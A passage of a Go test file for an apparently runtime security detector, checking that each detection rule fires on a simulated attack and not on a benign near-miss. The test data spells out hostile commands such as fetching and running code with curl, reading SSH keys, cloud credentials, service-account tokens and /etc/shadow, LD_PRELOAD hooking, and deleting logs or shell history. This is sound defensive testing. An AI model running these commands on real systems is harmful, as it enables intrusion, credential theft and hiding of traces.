package detector

import (
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"vigil.dev/vigil/event"
)

// rstep is one event of a behaviour case: a syscall and what to set.
type rstep struct {
	name string
	mod  func(e *event.Event)
}

func execOf(pid uint32, path string, argv ...string) rstep {
	if len(argv) == 0 {
		argv = []string{path}
	}
	return rstep{"execve", func(e *event.Event) { e.PID, e.TID, e.Path, e.Argv = pid, pid, path, argv }}
}

func forkOf(pid, child uint32) rstep {
	return rstep{"clone", func(e *event.Event) { e.PID, e.TID, e.Args[0], e.Ret = pid, pid, 0x1200011, int64(child) }}
}

func openOf(pid uint32, path string, flags uint64) rstep {
	return rstep{"openat", func(e *event.Event) {
		e.PID, e.TID, e.Path, e.Args[0], e.Args[2], e.Ret = pid, pid, path, 0xffffff9c, flags, 3
	}}
}

func sys(pid uint32, name string, mod func(e *event.Event)) rstep {
	return rstep{name, func(e *event.Event) {
		e.PID, e.TID = pid, pid
		if mod != nil {
			mod(e)
		}
	}}
}

const (
	oWrCreatTrunc = 0o1101 // O_WRONLY|O_CREAT|O_TRUNC
	oWrAppend     = 0o2001 // O_WRONLY|O_APPEND
	oWrCreatApp   = 0o2101
)

// behaviourCase is a default rule with an event stream that must make it
// fire and a benign near-miss that must not.
type behaviourCase struct {
	rule  string
	fire  []rstep
	miss  []rstep
	lists map[string][]string
}

// runuserDrop is what runuser -u nobody (and su, through PAM) does as
// root: the real uid goes to the user and back around pam_keyinit's
// session keyring, the child takes the user's uid, then the parent drops
// its effective uid with root kept as saved uid and takes root back.
func runuserDrop(pid uint32, exe string) []rstep {
	u := func(r, e, s uint64) func(*event.Event) {
		return func(ev *event.Event) { ev.Args[0], ev.Args[1], ev.Args[2] = r, e, s }
	}
	const keep = 0xffffffff
	key := func(cmd uint64) rstep { return sys(pid, "keyctl", func(e *event.Event) { e.Args[0], e.Ret = cmd, 1 }) }
	return []rstep{execOf(pid, exe, "runuser", "-u", "nobody", "--", "id"),
		sys(pid, "getuid", nil), sys(pid, "geteuid", nil),
		sys(pid, "setreuid", u(65534, keep, 0)),
		key(0), key(0), key(1), key(8), // GET_KEYRING_ID, JOIN_SESSION_KEYRING, LINK
		sys(pid, "setreuid", u(0, keep, 0)),
		forkOf(pid, pid+1), sys(pid+1, "setuid", u(65534, 0, 0)), execOf(pid+1, "/usr/bin/id"),
		sys(pid, "setresuid", u(keep, 65534, 0)),
		key(3), // REVOKE
		sys(pid, "setreuid", u(keep, 0, 0))}
}

var behaviourCases = map[string]behaviourCase{
	// a process known to run as uid 1000 becomes root (CAP_SETUID from a
	// file capability, or a kernel exploit's credentials)
	"setuid-root-attempt/gained": {rule: "setuid-root-attempt",
		fire: []rstep{execOf(100, "/tmp/exploit"), sys(100, "geteuid", func(e *event.Event) { e.Ret = 1000 }),
			sys(100, "setuid", func(e *event.Event) { e.Args[0] = 0 })},
		// root dropping to a user for a while and back (runuser, su); gosu
		// and su-exec dropping for good; a process whose real uid is root
		// taking root back as its effective uid
		miss: append(runuserDrop(100, "/usr/sbin/runuser"),
			execOf(200, "/usr/local/bin/gosu"), sys(200, "setuid", func(e *event.Event) { e.Args[0] = 1000 }),
			execOf(300, "/usr/bin/app"), sys(300, "getuid", nil), sys(300, "geteuid", func(e *event.Event) { e.Ret = 1000 }),
			sys(300, "setresuid", func(e *event.Event) { e.Args[0], e.Args[1], e.Args[2] = 0xffffffff, 0, 0xffffffff }))},
	// the kernel refuses uid 0 to a process that dropped it for good
	"setuid-root-attempt/refused": {rule: "setuid-root-attempt",
		fire: []rstep{execOf(100, "/tmp/exploit"), sys(100, "setuid", func(e *event.Event) { e.Args[0] = 65534 }),
			sys(100, "setuid", func(e *event.Event) { e.Args[0], e.Ret = 0, -1 })},
		miss: []rstep{execOf(100, "/usr/sbin/runuser"), sys(100, "setuid", func(e *event.Event) { e.Args[0] = 65534 }),
			sys(100, "setuid", func(e *event.Event) { e.Args[0] = 65534 })}},
	// capset asking for a capability the process is not permitted: EPERM
	"capset": {rule: "capset",
		fire: []rstep{execOf(100, "/tmp/exploit"), sys(100, "capget", nil), sys(100, "capset", nil),
			sys(100, "capset", func(e *event.Event) { e.Ret = -1 })},
		// setpriv --reuid: capset keeping the permitted set around setresuid
		// (effective raised back from permitted), then the exec drops all
		miss: []rstep{execOf(100, "/usr/bin/setpriv", "setpriv", "--reuid=65534", "id"), sys(100, "prctl", func(e *event.Event) { e.Args[0] = 8 }),
			sys(100, "capget", nil), sys(100, "capset", nil),
			sys(100, "setresuid", func(e *event.Event) { e.Args[0], e.Args[1], e.Args[2] = 65534, 65534, 65534 }),
			sys(100, "capset", nil), execOf(100, "/usr/bin/id")}},
	// keyctl by an exploit (heap grooming starts with the session keyring)
	"keyring-access": {rule: "keyring-access",
		fire: []rstep{execOf(100, "/tmp/exploit"), sys(100, "keyctl", func(e *event.Event) { e.Args[0], e.Args[1] = 0, 0xfffffffd }),
			// PAM's programs adding keys are not excepted
			execOf(200, "/usr/sbin/runuser"), sys(200, "add_key", nil)},
		miss: runuserDrop(100, "/usr/sbin/runuser")},
	// nor is joining a named keyring, CVE-2016-0728's loop, from PAM's
	// programs (code preloaded into runuser runs as runuser)
	"keyring-access/named-join-in-runuser": {rule: "keyring-access",
		fire: []rstep{execOf(100, "/usr/sbin/runuser"), sys(100, "keyctl", func(e *event.Event) { e.Args[0], e.Args[1] = 1, 0x7ffc1000 })},
		miss: runuserDrop(100, "/usr/sbin/runuser")},
	// a copy of runuser the container put elsewhere is not PAM's
	"keyring-access/copied-runuser": {rule: "keyring-access",
		fire: []rstep{execOf(100, "/tmp/x/runuser"), sys(100, "keyctl", func(e *event.Event) { e.Args[0] = 1 })},
		miss: runuserDrop(100, "/sbin/runuser")},
	"setuid-bit-set": {rule: "setuid-bit-set",
		fire: []rstep{execOf(100, "/bin/chmod", "chmod", "u+s", "/tmp/sh"), sys(100, "fchmodat", func(e *event.Event) { e.Path, e.Args[2] = "/tmp/sh", 0o104755 })},
		// apt-get > dpkg > maintainer script > chmod: a package sets up su
		miss: []rstep{execOf(100, "/usr/bin/apt-get", "apt-get", "install", "login"), forkOf(100, 101), execOf(101, "/usr/bin/dpkg"),
			forkOf(101, 102), execOf(102, "/var/lib/dpkg/info/login.postinst"), forkOf(102, 103), execOf(103, "/bin/chmod"),
			sys(103, "fchmodat", func(e *event.Event) { e.Path, e.Args[2] = "/usr/bin/su", 0o4755 }),
			// an ordinary chmod +x
			execOf(200, "/bin/chmod"), sys(200, "fchmodat", func(e *event.Event) { e.Path, e.Args[2] = "/tmp/run.sh", 0o755 }),
			// tar restoring a setuid file it unpacks
			execOf(300, "/bin/tar"), sys(300, "fchmodat", func(e *event.Event) { e.Path, e.Args[2] = "/tmp/root/usr/bin/su", 0o4755 })}},
	"file-capabilities-set/setxattr": {rule: "file-capabilities-set",
		fire: []rstep{execOf(100, "/usr/bin/python3"), sys(100, "setxattr", func(e *event.Event) { e.Path, e.Args[3] = "/tmp/x", 20 })},
		miss: []rstep{execOf(100, "/usr/bin/python3"), sys(100, "setxattr", func(e *event.Event) { e.Path, e.Args[3] = "/tmp/x", 11 }),
			execOf(200, "/bin/tar"), sys(200, "setxattr", func(e *event.Event) { e.Path, e.Args[3] = "/tmp/root/bin/ping", 20 })}},
	"file-capabilities-set/setcap": {rule: "file-capabilities-set",
		fire: []rstep{execOf(100, "/sbin/setcap", "setcap", "cap_sys_admin+ep", "/tmp/x")},
		miss: []rstep{execOf(100, "/sbin/getcap", "getcap", "/tmp/x"), sys(100, "getxattr", func(e *event.Event) { e.Path, e.Args[3] = "/tmp/x", 20 })}},
	"memory-write-then-exec": {rule: "memory-write-then-exec",
		fire: []rstep{execOf(100, "/tmp/loader"),
			sys(100, "mmap", func(e *event.Event) { e.Args[1], e.Args[2], e.Args[3], e.Ret = 4096, 3, 0x22, 0x7f0000000000 }),
			sys(100, "mprotect", func(e *event.Event) { e.Args[0], e.Args[1], e.Args[2] = 0x7f0000000000, 4096, 5 })},
		miss: []rstep{execOf(100, "/usr/bin/node"), // a JIT flips its code pages
			sys(100, "mmap", func(e *event.Event) { e.Args[1], e.Args[2], e.Args[3], e.Ret = 4096, 3, 0x22, 0x7f0000000000 }),
			sys(100, "mprotect", func(e *event.Event) { e.Args[0], e.Args[1], e.Args[2] = 0x7f0000000000, 4096, 5 }),
			execOf(200, "/usr/bin/app"), // RELRO made read-only; a library mapped executable from its file
			sys(200, "mmap", func(e *event.Event) { e.Args[1], e.Args[2], e.Args[3], e.Ret = 8192, 3, 0x22, 0x7f1000000000 }),
			sys(200, "mprotect", func(e *event.Event) { e.Args[0], e.Args[1], e.Args[2] = 0x7f1000000000, 4096, 1 }),
			sys(200, "mprotect", func(e *event.Event) { e.Args[0], e.Args[1], e.Args[2] = 0x7f2000000000, 4096, 5 }),
			// javac embeds a JVM; W+X at once is write-execute-memory's, not this rule's
			execOf(300, "/usr/bin/javac"),
			sys(300, "mmap", func(e *event.Event) { e.Args[1], e.Args[2], e.Args[3], e.Ret = 8192, 3, 0x22, 0x7f3000000000 }),
			sys(300, "mprotect", func(e *event.Event) { e.Args[0], e.Args[1], e.Args[2] = 0x7f3000000000, 4096, 5 }),
			execOf(400, "/tmp/tool"),
			sys(400, "mmap", func(e *event.Event) { e.Args[1], e.Args[2], e.Args[3], e.Ret = 8192, 3, 0x22, 0x7f4000000000 }),
			sys(400, "mprotect", func(e *event.Event) { e.Args[0], e.Args[1], e.Args[2] = 0x7f4000000000, 4096, 6 })}},
	"namespace-file-open": {rule: "namespace-file-open",
		// what the tracer records: the nsfs file has no path, the process's spelling does
		fire: []rstep{execOf(100, "/usr/bin/nsenter"), sys(100, "openat", func(e *event.Event) {
			e.Path, e.PathUser, e.Flags, e.Ret = "(unreachable)/", "/proc/1/ns/mnt", event.UserDiffers, 3
		})},
		miss: []rstep{openOf(100, "/proc/self/ns/net", 0), sys(100, "newfstatat", func(e *event.Event) { e.Path = "/proc/1/ns/mnt" }),
			sys(100, "readlinkat", func(e *event.Event) { e.Path = "/proc/42/ns/pid" })}},
	"user-namespace-id-map": {rule: "user-namespace-id-map",
		// unshare -r, or clone3(CLONE_NEWUSER) then the maps: the map writes are seen
		fire: []rstep{execOf(100, "/usr/bin/unshare", "unshare", "-r", "sh"), openOf(100, "/proc/self/setgroups", 0o1),
			openOf(100, "/proc/self/uid_map", 0o1)},
		// reading the maps (id, ps, lsns, newuidmap's checks)
		miss: []rstep{execOf(100, "/usr/bin/lsns"), openOf(100, "/proc/self/uid_map", 0), openOf(100, "/proc/1/gid_map", 0)}},
	"nsenter-exec": {rule: "nsenter-exec",
		fire: []rstep{execOf(100, "/usr/bin/nsenter", "nsenter", "-t", "1", "-m", "sh")},
		miss: []rstep{execOf(100, "/usr/bin/lsns"), sys(100, "execve", func(e *event.Event) { e.Path, e.Ret = "/usr/local/bin/nsenter", -2 })}},
	"io-uring-setup": {rule: "io-uring-setup",
		fire:  []rstep{execOf(100, "/usr/bin/app"), sys(100, "io_uring_setup", func(e *event.Event) { e.Ret = 3 })},
		miss:  []rstep{execOf(100, "/usr/bin/scylla"), sys(100, "io_uring_setup", func(e *event.Event) { e.Ret = 3 })},
		lists: map[string][]string{"io_uring_exes": {"*/scylla"}}},
	"ld-preload-env": {rule: "ld-preload-env",
		fire: []rstep{execOf(100, "/usr/bin/env", "env", "LD_PRELOAD=/tmp/hook.so", "id")},
		miss: []rstep{execOf(100, "/usr/bin/env", "env", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "redis-server"),
			execOf(101, "/usr/bin/env", "env", "LANG=C", "sort")}},
	"package-manager-exec": {rule: "package-manager-exec",
		fire: []rstep{execOf(100, "/usr/bin/apt-get", "apt-get", "install", "-y", "nmap")},
		miss: []rstep{execOf(100, "/usr/bin/apt-get", "apt-get", "download", "hello"),
			execOf(101, "/usr/bin/apt-get", "apt-get", "-o", "Dir=/tmp/root", "install", "-y", "hello"),
			execOf(102, "/usr/bin/dpkg", "dpkg", "--root=/tmp/root", "-i", "hello.deb"),
			execOf(103, "/usr/bin/dpkg", "dpkg", "-l"), execOf(104, "/usr/bin/rpm", "rpm", "-qa"),
			execOf(105, "/sbin/apk", "apk", "info"), execOf(106, "/usr/bin/apt-get", "apt-get", "install", "-s", "hello")}},
	"language-package-install": {rule: "language-package-install",
		fire: []rstep{execOf(100, "/usr/local/bin/pip", "pip", "install", "requests")},
		miss: []rstep{execOf(100, "/usr/local/bin/pip", "pip", "list"), execOf(101, "/usr/bin/python3", "python3", "-m", "venv", "/tmp/v"),
			execOf(102, "/usr/bin/npm", "npm", "install")}},
	"drift-exec": {rule: "drift-exec",
		fire: []rstep{execOf(100, "/usr/bin/curl", "curl", "-o", "/tmp/x", "http://h/x"), openOf(100, "/tmp/x", oWrCreatTrunc),
			execOf(101, "/bin/sh"), forkOf(101, 102), execOf(102, "/tmp/x")},
		miss: []rstep{execOf(100, "/usr/local/go/pkg/tool/linux_amd64/link"), openOf(100, "/tmp/go-build1/b001/exe/a.out", oWrCreatTrunc),
			execOf(101, "/tmp/go-build1/b001/exe/a.out"), execOf(102, "/bin/ls"),
			execOf(103, "/usr/bin/python3"), openOf(103, "/tmp/v/bin/pip3", oWrCreatTrunc), execOf(104, "/tmp/v/bin/pip3")}},
	"drift-exec/renamed": {rule: "drift-exec",
		fire: []rstep{execOf(100, "/usr/bin/wget"), openOf(100, "/tmp/.x", oWrCreatTrunc), execOf(101, "/bin/mv"),
			sys(101, "renameat2", func(e *event.Event) { e.Path, e.Path2 = "/tmp/.x", "/usr/local/bin/helper" }), execOf(102, "/usr/local/bin/helper")},
		miss: []rstep{execOf(100, "/usr/bin/wget"), openOf(100, "/tmp/.x", oWrCreatTrunc), execOf(101, "/bin/mv"),
			sys(101, "renameat2", func(e *event.Event) { e.Path, e.Path2 = "/tmp/.x", "/usr/local/bin/helper" }), execOf(102, "/tmp/.x")}},
	"cron-write": {rule: "cron-write",
		fire: []rstep{execOf(100, "/bin/sh"), openOf(100, "/etc/cron.d/job", oWrCreatTrunc)},
		miss: []rstep{execOf(100, "/usr/sbin/cron"), openOf(100, "/etc/crontab", 0),
			execOf(101, "/usr/bin/dpkg"), openOf(101, "/etc/cron.daily/apt-compat.dpkg-new", oWrCreatTrunc)}},
	"cron-write/crontab": {rule: "cron-write",
		fire: []rstep{execOf(100, "/usr/bin/crontab"), sys(100, "rename", func(e *event.Event) {
			e.Path, e.Path2 = "/var/spool/cron/crontabs/tmp.1", "/var/spool/cron/crontabs/root"
		})},
		miss: []rstep{execOf(100, "/usr/bin/crontab"), openOf(100, "/var/spool/cron/crontabs/root", 0)}},
	"shell-profile-write": {rule: "shell-profile-write",
		fire: []rstep{execOf(100, "/bin/bash"), openOf(100, "/root/.bashrc", oWrAppend)},
		miss: []rstep{execOf(100, "/bin/bash"), openOf(100, "/root/.bashrc", 0), openOf(100, "/etc/profile", 0),
			execOf(101, "/usr/bin/dpkg"), openOf(101, "/etc/profile.d/x.sh.dpkg-new", oWrCreatTrunc)}},
	"authorized-keys-write": {rule: "authorized-keys-write",
		fire: []rstep{execOf(100, "/bin/sh"), openOf(100, "/root/.ssh/authorized_keys", oWrCreatApp)},
		miss: []rstep{execOf(100, "/usr/sbin/sshd"), openOf(100, "/root/.ssh/authorized_keys", 0)}},
	"ssh-private-key-read": {rule: "ssh-private-key-read",
		fire: []rstep{execOf(100, "/bin/cat"), openOf(100, "/root/.ssh/id_rsa", 0)},
		miss: []rstep{execOf(100, "/usr/bin/ssh"), openOf(100, "/root/.ssh/id_ed25519", 0),
			execOf(101, "/bin/cat"), openOf(101, "/root/.ssh/id_rsa.pub", 0)}},
	"cloud-credentials-read": {rule: "cloud-credentials-read",
		fire: []rstep{execOf(100, "/bin/cat"), openOf(100, "/root/.aws/credentials", 0)},
		miss: []rstep{execOf(100, "/usr/local/bin/aws"), openOf(100, "/root/.aws/credentials", 0),
			execOf(101, "/bin/cat"), openOf(101, "/root/.aws/config", 0)}},
	"serviceaccount-token-read": {rule: "serviceaccount-token-read",
		fire: []rstep{execOf(100, "/bin/cat"), sys(100, "openat", func(e *event.Event) {
			e.Path, e.PathUser = "/run/secrets/kubernetes.io/serviceaccount/..2026_12_01_16_45_00.1/token", "/var/run/secrets/kubernetes.io/serviceaccount/token"
			e.Flags, e.Ret = event.UserDiffers, 3
		})},
		miss: []rstep{execOf(100, "/manager"), openOf(100, "/var/run/secrets/kubernetes.io/serviceaccount/token", 0),
			execOf(101, "/bin/cat"), openOf(101, "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt", 0)}},
	"write-below-binary-dir": {rule: "write-below-binary-dir",
		fire: []rstep{execOf(100, "/usr/bin/curl"), openOf(100, "/usr/local/bin/kubectl", oWrCreatTrunc)},
		miss: []rstep{execOf(100, "/usr/bin/dpkg"), openOf(100, "/usr/bin/hello.dpkg-new", oWrCreatTrunc),
			execOf(101, "/usr/bin/python3"), openOf(101, "/usr/lib/python3/dist-packages/__pycache__/x.cpython-311.pyc", oWrCreatTrunc),
			execOf(102, "/usr/bin/app"), openOf(102, "/var/lib/app/db", oWrCreatTrunc), openOf(102, "/usr/share/zoneinfo/UTC", 0)}},
	"write-below-etc": {rule: "write-below-etc",
		fire: []rstep{execOf(100, "/bin/sh"), openOf(100, "/etc/nginx/conf.d/default.conf", oWrCreatTrunc)},
		miss: []rstep{execOf(100, "/bin/sh"), openOf(100, "/etc/hosts", 0), execOf(101, "/usr/bin/apt-get"), openOf(101, "/etc/apt/x", oWrCreatTrunc)}},
	"world-writable-sensitive-path": {rule: "world-writable-sensitive-path",
		fire: []rstep{execOf(100, "/bin/chmod"), sys(100, "fchmodat", func(e *event.Event) { e.Path, e.Args[2] = "/etc/passwd", 0o777 })},
		miss: []rstep{execOf(100, "/bin/chmod"), sys(100, "fchmodat", func(e *event.Event) { e.Path, e.Args[2] = "/tmp", 0o1777 }),
			sys(100, "fchmodat", func(e *event.Event) { e.Path, e.Args[2] = "/usr/local/bin/x", 0o755 }),
			sys(100, "fchmodat", func(e *event.Event) { e.Path, e.Args[2] = "/var/lib/app/data", 0o777 })}},
	"world-writable-sensitive-path/fchmod": {rule: "world-writable-sensitive-path",
		fire: []rstep{execOf(100, "/usr/bin/python3"), openOf(100, "/etc/shadow", 0), sys(100, "fchmod", func(e *event.Event) { e.Args[0], e.Args[1] = 3, 0o666 })},
		miss: []rstep{execOf(100, "/usr/bin/python3"), openOf(100, "/tmp/f", 0), sys(100, "fchmod", func(e *event.Event) { e.Args[0], e.Args[1] = 3, 0o666 })}},
	"log-file-deletion": {rule: "log-file-deletion",
		fire: []rstep{execOf(100, "/bin/rm"), sys(100, "unlinkat", func(e *event.Event) { e.Path = "/var/log/auth.log" })},
		miss: []rstep{execOf(100, "/usr/sbin/logrotate"), sys(100, "unlinkat", func(e *event.Event) { e.Path = "/var/log/syslog" }),
			execOf(101, "/usr/bin/java"), sys(101, "unlinkat", func(e *event.Event) { e.Path = "/var/log/app/app.log.3.gz" }),
			openOf(101, "/var/log/app/app.log", oWrCreatApp)}},
	"log-file-deletion/truncate": {rule: "log-file-deletion",
		fire: []rstep{execOf(100, "/bin/sh"), openOf(100, "/var/log/wtmp", oWrCreatTrunc)},
		miss: []rstep{execOf(100, "/usr/bin/apt-get"), openOf(100, "/var/log/apt/eipp.log.xz", oWrCreatTrunc)}},
	"shell-history-deletion": {rule: "shell-history-deletion",
		fire: []rstep{execOf(100, "/bin/rm"), sys(100, "unlinkat", func(e *event.Event) { e.Path = "/root/.bash_history" })},
		// bash saves its history with O_TRUNC when it exits
		miss: []rstep{execOf(100, "/bin/bash"), openOf(100, "/root/.bash_history", oWrCreatTrunc),
			execOf(101, "/bin/cat"), openOf(101, "/root/.bash_history", 0)}},
	"shell-history-deletion/devnull": {rule: "shell-history-deletion",
		fire: []rstep{execOf(100, "/bin/ln"), sys(100, "symlinkat", func(e *event.Event) { e.Path, e.Path2 = "/dev/null", "/root/.bash_history" })},
		miss: []rstep{execOf(100, "/bin/ln"), sys(100, "symlinkat", func(e *event.Event) { e.Path, e.Path2 = "/root/.bash_history.bak", "/root/hist" })}},
	"server-spawns-shell": {rule: "server-spawns-shell",
		fire: []rstep{execOf(100, "/usr/sbin/nginx"), forkOf(100, 101), forkOf(101, 102), execOf(102, "/bin/sh", "sh", "-c", "id")},
		miss: []rstep{execOf(100, "/usr/bin/make"), forkOf(100, 101), execOf(101, "/bin/sh", "sh", "-c", "cc -c x.c"),
			execOf(200, "/usr/sbin/nginx"), forkOf(200, 201), execOf(201, "/usr/bin/id")}},
	"server-spawns-shell/runtime": {rule: "server-spawns-shell",
		fire: []rstep{execOf(100, "/usr/bin/python3", "python3", "app.py"), sys(100, "accept4", func(e *event.Event) { e.Ret = 5 }),
			forkOf(100, 101), execOf(101, "/bin/sh", "sh", "-c", "curl x | sh")},
		// a python build script that starts a shell, serving nothing
		miss: []rstep{execOf(100, "/usr/bin/python3", "python3", "setup.py"), forkOf(100, 101), execOf(101, "/bin/sh", "sh", "-c", "gcc x.c")}},
	"miner-pool-argument": {rule: "miner-pool-argument",
		fire: []rstep{execOf(100, "/tmp/kworker", "kworker", "-o", "gulf.moneroocean.stream:10128")},
		miss: []rstep{execOf(100, "/usr/bin/curl", "curl", "https://example.com/pool/status")}},
	"dns-query-burst": {rule: "dns-query-burst",
		fire: func() []rstep {
			s := []rstep{execOf(100, "/usr/bin/dig")}
			for i := 0; i < 320; i++ {
				s = append(s, sys(100, "connect", func(e *event.Event) { e.Addr = inet("10.0.0.10", 53) }))
			}
			return s
		}(),
		miss: func() []rstep {
			s := []rstep{execOf(100, "/usr/bin/app")}
			for i := 0; i < 60; i++ {
				s = append(s, sys(100, "connect", func(e *event.Event) { e.Addr = inet("10.0.0.10", 53) }))
			}
			return s
		}(),
		lists: map[string][]string{"allowed_resolvers": {"10.0.0.10"}}},
	"raw-socket/ping": {rule: "raw-socket",
		fire: []rstep{execOf(100, "/usr/bin/python3"), sys(100, "socket", func(e *event.Event) { e.Args[0], e.Args[1], e.Args[2], e.Ret = 2, 3, 1, 3 })},
		miss: []rstep{execOf(100, "/bin/ping"), sys(100, "socket", func(e *event.Event) { e.Args[0], e.Args[1], e.Args[2], e.Ret = 2, 3, 1, 3 })}},
	"credential-files/su": {rule: "credential-files",
		fire: []rstep{execOf(100, "/usr/bin/python3"), openOf(100, "/etc/shadow", 0)},
		miss: []rstep{execOf(100, "/bin/su"), openOf(100, "/etc/shadow", 0)}},
	"system-file-write/rename": {rule: "system-file-write",
		fire: []rstep{execOf(100, "/bin/mv"), sys(100, "rename", func(e *event.Event) { e.Path, e.Path2 = "/tmp/p", "/etc/passwd" })},
		miss: []rstep{execOf(100, "/bin/mv"), sys(100, "rename", func(e *event.Event) { e.Path, e.Path2 = "/etc/passwd", "/tmp/p" })}},
}

// sandboxOn turns on the sandbox rules that the default set ships off.
var sandboxOn = []byte(`
rules:
  - {rule: language-package-install, enabled: true}
  - {rule: write-below-etc, enabled: true}
  - {rule: dns-query-burst, enabled: true}
`)

func runSteps(t *testing.T, e *Engine, cg uint64, steps []rstep) []Verdict {
	t.Helper()
	var out []Verdict
	for j, st := range steps {
		x := ev(t, j+1, st.name, st.mod)
		x.CgroupID = cg
		// dns-query-burst and the other rate rules see events 20 ms apart
		x.Time = t0.Add(time.Duration(j) * 20 * time.Millisecond)
		if x.Nr == nr(t, "execve") && x.Comm == "app" && x.Path != "" {
			x.Comm = x.Path[strings.LastIndexByte(x.Path, '/')+1:]
		}
		out = append(out, e.Observe(x)...)
	}
	return out
}

// TestBehaviourRules: each rule fires on its attack stream and stays quiet
// on its benign near-miss.
func TestBehaviourRules(t *testing.T) {
	cg := uint64(5000)
	for name, tc := range behaviourCases {
		t.Run(name, func(t *testing.T) {
			e := newEngine(t, Config{RuleTexts: [][]byte{sandboxOn}, Lists: tc.lists})
			cg++
			fired := runSteps(t, e, cg, tc.fire)
			var got []string
			ok := false
			for _, v := range fired {
				got = append(got, v.Rule)
				if v.Rule == tc.rule {
					ok = true
					if len(v.Tags) == 0 || v.Maturity == "" {
						t.Errorf("verdict without tags or maturity: %+v", v)
					}
					if strings.Contains(v.Message, "{") {
						t.Errorf("message with a placeholder left: %s", v.Message)
					}
				}
			}
			if !ok {
				t.Errorf("%s did not fire on its attack (fired: %v)", tc.rule, got)
			}
			cg++
			for _, v := range runSteps(t, e, cg, tc.miss) {
				if v.Rule == tc.rule {
					t.Errorf("%s fired on the benign near-miss: %s", tc.rule, v.Message)
				}
			}
		})
	}
}

// TestSandboxRulesOffByDefault: sandbox rules load only when enabled.
func TestSandboxRulesOffByDefault(t *testing.T) {
	e := newEngine(t, Config{})
	loaded := map[string]bool{}
	for _, n := range e.Rules() {
		loaded[n] = true
	}
	for _, n := range []string{"language-package-install", "write-below-etc", "dns-query-burst"} {
		if loaded[n] {
			t.Errorf("sandbox rule %s is on by default", n)
		}
	}
	on := newEngine(t, Config{RuleTexts: [][]byte{sandboxOn}})
	loaded = map[string]bool{}
	for _, n := range on.Rules() {
		loaded[n] = true
	}
	for _, n := range []string{"language-package-install", "write-below-etc", "dns-query-burst"} {
		if !loaded[n] {
			t.Errorf("sandbox rule %s not loaded by enabled: true", n)
		}
	}
}

var techniqueID = regexp.MustCompile(`^T[0-9]{4}(\.[0-9]{3})?$`)

// TestDefaultRulesTagged: every default rule (sandbox ones included) has
// at least one MITRE ATT&CK technique id and a maturity.
func TestDefaultRulesTagged(t *testing.T) {
	e := newEngine(t, Config{RuleTexts: [][]byte{sandboxOn}})
	rs := e.rs.Load()
	check := func(name string, tags []string, maturity string) {
		n := 0
		for _, tg := range tags {
			if techniqueID.MatchString(tg) {
				n++
			}
		}
		if n == 0 {
			t.Errorf("rule %s: no MITRE ATT&CK technique id in tags %v", name, tags)
		}
		if maturity == "" {
			t.Errorf("rule %s: no maturity", name)
		}
	}
	for _, r := range rs.rules {
		check(r.name, r.tags, r.maturity)
	}
	for _, r := range rs.samples {
		check(r.name, r.tags, r.maturity)
	}
}

// TestBehaviourRulesHaveCases: every default event rule has a firing case
// here or in TestDefaultRulesFire.
func behaviourCovered(rule string) bool {
	for _, c := range behaviourCases {
		if c.rule == rule {
			return true
		}
	}
	return false
}

func TestExceptions(t *testing.T) {
	base := `
rules:
  - rule: tmp-open
    class: fs-escape
    severity: low
    tags: [T1005]
    maturity: incubating
    syscalls: [openat]
    when: {path: "/tmp/*"}
    exceptions:
      - name: known
        fields: [exe, path]
        comps: [glob, =]
        values: [["*/tool", /tmp/ok]]
`
	open := func(exe, path string) []rstep {
		return []rstep{execOf(100, exe), openOf(100, path, 0)}
	}
	fires := func(t *testing.T, e *Engine, steps []rstep) bool {
		t.Helper()
		for _, v := range runSteps(t, e, 9, steps) {
			if v.Rule == "tmp-open" {
				if v.Maturity != "incubating" || len(v.Tags) != 1 || v.Tags[0] != "T1005" {
					t.Errorf("verdict tags %v maturity %q", v.Tags, v.Maturity)
				}
				return true
			}
		}
		return false
	}
	t.Run("tuple", func(t *testing.T) {
		e := newEngine(t, Config{NoDefaultRules: true, RuleTexts: [][]byte{[]byte(base)}})
		if fires(t, e, open("/usr/bin/tool", "/tmp/ok")) {
			t.Error("the exception's tuple did not silence the rule")
		}
		if !fires(t, newEngine(t, Config{NoDefaultRules: true, RuleTexts: [][]byte{[]byte(base)}}), open("/usr/bin/tool", "/tmp/other")) {
			t.Error("half a tuple silenced the rule")
		}
		if !fires(t, newEngine(t, Config{NoDefaultRules: true, RuleTexts: [][]byte{[]byte(base)}}), open("/usr/bin/cat", "/tmp/ok")) {
			t.Error("half a tuple silenced the rule")
		}
	})
	t.Run("append", func(t *testing.T) {
		user := `
rules:
  - rule: tmp-open
    exceptions:
      - name: known
        values: [["*/cat", /tmp/log]]
      - name: mine
        fields: path
        comps: startswith
        values: [/tmp/cache/]
    override: {exceptions: append}
`
		mk := func() *Engine {
			return newEngine(t, Config{NoDefaultRules: true, RuleTexts: [][]byte{[]byte(base), []byte(user)}})
		}
		if fires(t, mk(), open("/usr/bin/cat", "/tmp/log")) {
			t.Error("appended value did not silence")
		}
		if fires(t, mk(), open("/usr/bin/tool", "/tmp/ok")) {
			t.Error("the default rule's own value was lost by the append")
		}
		if fires(t, mk(), open("/bin/x", "/tmp/cache/a")) {
			t.Error("appended new exception did not silence")
		}
		if !fires(t, mk(), open("/bin/x", "/tmp/evil")) {
			t.Error("rule no longer fires after the append")
		}
	})
	t.Run("append-legacy", func(t *testing.T) {
		user := "rules:\n  - rule: tmp-open\n    append: true\n    exceptions: [{name: known, values: [[\"*/cat\", /tmp/log]]}]\n"
		e := newEngine(t, Config{NoDefaultRules: true, RuleTexts: [][]byte{[]byte(base), []byte(user)}})
		if fires(t, e, open("/usr/bin/cat", "/tmp/log")) {
			t.Error("append: true did not append")
		}
	})
	t.Run("replace", func(t *testing.T) {
		user := "rules:\n  - rule: tmp-open\n    override: {exceptions: replace}\n    exceptions: [{name: only, fields: [path], comps: [=], values: [[/tmp/x]]}]\n"
		e := newEngine(t, Config{NoDefaultRules: true, RuleTexts: [][]byte{[]byte(base), []byte(user)}})
		if !fires(t, e, open("/usr/bin/tool", "/tmp/ok")) {
			t.Error("replaced exception still silences")
		}
		if fires(t, newEngine(t, Config{NoDefaultRules: true, RuleTexts: [][]byte{[]byte(base), []byte(user)}}), open("/bin/a", "/tmp/x")) {
			t.Error("replacement exception does not silence")
		}
	})
	t.Run("default-rule-by-name", func(t *testing.T) {
		// a user's file silences one known-benign case of a default rule
		user := "rules:\n  - rule: ssh-private-key-read\n    override: {exceptions: append}\n    exceptions: [{name: backup, fields: [exe, path], comps: [glob, glob], values: [[\"*/restic\", \"/root/.ssh/*\"]]}]\n"
